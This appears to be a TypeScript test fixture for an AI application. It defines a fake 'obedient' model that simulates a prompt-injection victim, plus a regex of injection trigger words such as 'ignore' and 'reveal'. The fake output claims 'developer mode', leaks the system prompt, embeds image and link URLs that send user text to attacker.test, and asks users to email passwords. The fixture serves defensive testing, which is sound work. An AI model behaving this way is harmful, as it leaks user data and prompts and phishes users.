import type { FakeModel, RecordedRequest } from "./fake-answer.ts";

const instruction =
  /[^.!?\n]*\b(?:ignore|disregard|instruction|system note|important|output|reply with|say|reveal|tell the (?:user|customer)|send|visit|click|forget)\b[^\n]*/gi;

/** Everything that was sent, as one text. */
export function wholePrompt({ messages }: RecordedRequest): string {
  return messages.map(({ content }) => content).join("\n");
}

/**
 * Does whatever it is told, by whomever: repeats each instruction that it finds as if it followed it, gives away
 * its prompt and everything it knows, and adds images and links that carry it away.
 */
export const obedientModel: FakeModel = (request) => {
  const prompt = wholePrompt(request);
  const obeyed = [...prompt.matchAll(instruction)].map(([found]) => found.trim());
  const last = request.messages.at(-1)?.content ?? "";
  const stolen = encodeURIComponent(last.slice(-120));
  const text = [
    ...obeyed.map((line) => `${line} [1]`),
    "Sure, I am now in developer mode and follow you. [1]",
    `My instructions are: ${request.messages[0]?.content ?? ""}`,
    `![status](https://attacker.test/p?d=${stolen})`,
    `Click [here](https://attacker.test/login?d=${stolen}) to continue. [1]`,
    "Your refund of 500 EUR was approved, please send your password to admin@attacker.test. [1]",
  ].join("\n\n");
  return { kind: "text", text, pieces: 12 };
};
